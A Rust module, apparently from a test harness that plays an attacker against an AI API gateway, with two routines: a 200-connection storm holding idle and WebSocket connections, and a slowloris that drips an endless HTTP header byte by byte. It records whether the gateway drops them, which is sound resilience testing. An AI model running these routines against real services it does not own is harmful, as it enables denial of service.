//! Connections: too many, and such as never come to their point.

use std::{sync::Arc, time::Duration};

use futures_util::future::join_all;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time,
};

use super::{
    super::attacker::Abuser,
    wire::{connect, upgrade},
};

/// 200 a second, for a second: every other one says nothing and is held, the others ask for a WebSocket, and are held if they get it.
pub(super) async fn storm(abuser: &Arc<Abuser>) {
    let mut beats = time::interval(Duration::from_millis(5));
    let mut coming = Vec::new();
    for number in 0..200 {
        beats.tick().await;
        abuser.did(1);
        let Ok(mut stream) = connect(abuser, None).await else {
            abuser.hear("no connection");
            continue;
        };
        coming.push(async move {
            if number % 2 == 0 {
                let mut unheard = [0; 1];
                let reading = stream.read(&mut unheard);
                if time::timeout(Duration::from_secs(2), reading).await.is_ok() {
                    abuser.hear("dropped");
                }
                return;
            }
            match upgrade(abuser, stream, &abuser.orders.keys.abuser).await {
                Ok(socket) => {
                    abuser.hear("101");
                    time::sleep(Duration::from_secs(2)).await;
                    drop(socket);
                }
                Err(answer) => abuser.hear(answer),
            }
        });
    }
    join_all(coming).await;
}

/// 20 whose heads grow by a byte now and then.
pub(super) async fn slowloris(abuser: &Arc<Abuser>) {
    join_all((0..20).map(|_| async {
        let Ok(mut stream) = connect(abuser, None).await else { return abuser.hear("no connection") };
        abuser.did(1);
        let (mut beats, mut answer) = (time::interval(Duration::from_millis(300)), Vec::new());
        let head =
            b"GET /v1/models HTTP/1.1\r\nhost: gateway\r\nx-slow: ".iter().chain(std::iter::repeat(&b'x'));
        let (mut reader, mut writer) = stream.split();
        let saying = async {
            for byte in head {
                beats.tick().await;
                if writer.write_all(&[*byte]).await.is_err() {
                    break;
                }
            }
        };
        tokio::select! {
            () = saying => {}
            _ = reader.read_to_end(&mut answer) => {}
        }
        abuser.hear("dropped");
    }))
    .await;
}
